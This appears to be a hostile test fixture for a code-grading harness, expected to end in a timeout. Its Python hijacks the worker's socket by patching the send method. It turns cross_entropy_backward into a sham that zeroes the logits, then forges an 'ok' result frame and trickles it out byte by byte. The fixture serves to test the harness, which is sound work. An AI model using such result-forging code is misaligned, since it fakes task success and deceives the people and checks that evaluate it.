# /// attack
# rows = []
# tries = "Sends its answer a byte at a time, one each fifth of a second."
# kind = "hostile"
# verdicts = ["timeout"]
# seconds = 0.5
# ///
import struct
import sys

import msgspec
import torch

FORGED = [False]


def channel_of_the_worker():
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if hasattr(value, "sock") and hasattr(value, "send"):
                return value
        frame = frame.f_back
    return None


def pack(value):
    return msgspec.msgpack.encode(value)


def frame_of(structure, blob=b""):
    return struct.pack("<II", len(structure), len(blob)) + structure + blob


def take_over():
    channel = channel_of_the_worker()
    honest = type(channel).send

    def send(self, buffers):
        if not FORGED[0]:
            return honest(self, buffers)
        FORGED[0] = False
        nonce = msgspec.msgpack.decode(bytes(buffers[1]))[0]
        self.sock.sendall(forge(nonce, self))

    type(channel).send = send


take_over()


def cross_entropy_backward(logits, targets):
    FORGED[0] = True
    return logits.zero_()


import time


def forge(nonce, channel):
    for byte in frame_of(pack([nonce, "ok", ["s", msgspec.msgpack.Ext(1, b"x" * 1000)], None])):
        channel.sock.sendall(bytes([byte]))
        time.sleep(0.2)
    return b""
